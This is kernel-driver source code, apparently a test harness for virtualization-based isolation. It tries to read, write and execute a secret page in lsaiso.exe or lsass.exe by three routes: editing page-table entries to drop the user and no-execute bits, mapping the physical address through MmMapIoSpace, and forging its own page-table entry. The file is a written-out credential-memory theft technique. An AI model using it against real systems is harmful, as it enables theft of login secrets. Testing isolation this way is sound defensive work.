// Three ways to the page, three accesses each. Stage 1 is prepared so that it forbids nothing: what
// still refuses is the second stage, which belongs to VTL 1.
#include <string.h>

#include "boot/debug.h"
#include "rt/arch.h"
#include "thief.h"

namespace thief {
namespace {

enum PteBit : uint64_t {
  Present = 1,
  Write = 2,
  Owner = 4,
  Accessed = 0x20,
  Dirty = 0x40,
  NoExecute = 1ull << 63
};
constexpr uint64_t frame_mask = 0x000FFFFFFFFFF000;

struct Target {
  volatile uint8_t* page;
  uint8_t bytes[32];
};

NtStatus read_page(void* context) {
  auto t = static_cast<Target*>(context);
  for (int i = 0; i < 32; ++i)
    t->bytes[i] = t->page[i];
  return NtStatus::Success;
}

// Writes what is already there where it can be read: the secret stays usable for the next attempt.
NtStatus write_page(void* context) {
  auto t = static_cast<Target*>(context);
  t->page[0] = t->bytes[0];
  return NtStatus::Success;
}

NtStatus execute_page(void* context) {
  auto t = static_cast<Target*>(context);
  reinterpret_cast<void (*)()>(reinterpret_cast<uint64_t>(t->page) + ret_offset)();
  return NtStatus::Success;
}

void try_one(std::string_view way, Access access, TryRoutine routine, Target& target) {
  Attempt attempt{way, access, NtStatus::Success, {}};
  attempt.status = KeTryAccess(routine, &target, &attempt.exception);
  report(attempt);
}

EPROCESS* find_process(std::string_view name) {
  for (uint64_t pid = 4; pid < 4096; pid += 4) {
    EPROCESS* process{};
    if (abi::succeeded(PsLookupProcessByProcessId(pid, &process)) &&
        name == PsGetProcessImageFileName(process))
      return process;
  }
  return nullptr;
}

// 1. By virtual address, attached to the victim. Its entry says user, no execute: SMEP and NX are
// in stage 1, which ring 0 owns.
void by_virtual_address() {
  auto page = reinterpret_cast<void*>(secret_address);
  uint64_t* pte = find_pte(page);
  if (pte == nullptr || (*pte & Present) == 0) {
    boot::milestone("thief: {:#x} is not mapped", secret_address);
    return;
  }
  const uint64_t before = *pte;
  *pte = (before & ~(Owner | NoExecute)) | Write;
  arch::invalidate_page(page);
  try_all("virtual address", page);
  *pte = before;
  arch::invalidate_page(page);
}

// 2. By physical address, through the mapping that drivers ask for when they talk to devices:
// executable since ever (S42).
void by_physical_address(uint64_t physical) {
  void* mapping = MmMapIoSpace(physical, page_size, 1);
  if (mapping == nullptr) return;
  try_all("physical address", mapping);
  MmUnmapIoSpace(mapping, page_size);
}

// 3. Through an entry that the thief writes itself, over that of a harmless page of its own.
void by_own_page_table_entry(uint64_t physical) {
  static uint8_t decoy[2 * page_size];
  const auto aligned = (reinterpret_cast<uint64_t>(decoy) + page_size - 1) & ~(page_size - 1);
  auto page = reinterpret_cast<void*>(aligned);
  uint64_t* pte = find_pte(page);
  if (pte == nullptr) return;
  const uint64_t before = *pte;
  *pte = (physical & frame_mask) | Present | Write | Accessed | Dirty;
  arch::invalidate_page(page);
  try_all("own page-table entry", page);
  *pte = before;
  arch::invalidate_page(page);
}

}  // namespace

void try_all(std::string_view way, void* page) {
  Target target{static_cast<volatile uint8_t*>(page), {}};
  const uint32_t before = successes;
  try_one(way, Access::Read, read_page, target);
  if (successes != before) report_bytes(target.bytes);
  try_one(way, Access::Write, write_page, target);
  try_one(way, Access::Execute, execute_page, target);
}

}  // namespace thief

extern "C" NtStatus DriverEntry(DRIVER_OBJECT*, const void*) {
  using namespace thief;
  const char* victim = "lsaiso.exe";
  EPROCESS* process = find_process(victim);
  if (process == nullptr) process = find_process(victim = "lsass.exe");
  if (process == nullptr) {
    boot::milestone("thief: nobody to steal from");
    return NtStatus::NotFound;
  }
  boot::milestone("thief: the victim is {}, page {:#x}", victim, secret_address);
  KeStackAttachProcess(process);
  const uint64_t physical = MmGetPhysicalAddress(reinterpret_cast<const void*>(secret_address));
  by_virtual_address();
  if (physical != ~0ull) {
    by_physical_address(physical);
    by_own_page_table_entry(physical);
  }
  KeUnstackDetachProcess();
  boot::milestone("thief: {} of {} attempts succeeded", successes, attempts);
  return NtStatus::Success;
}
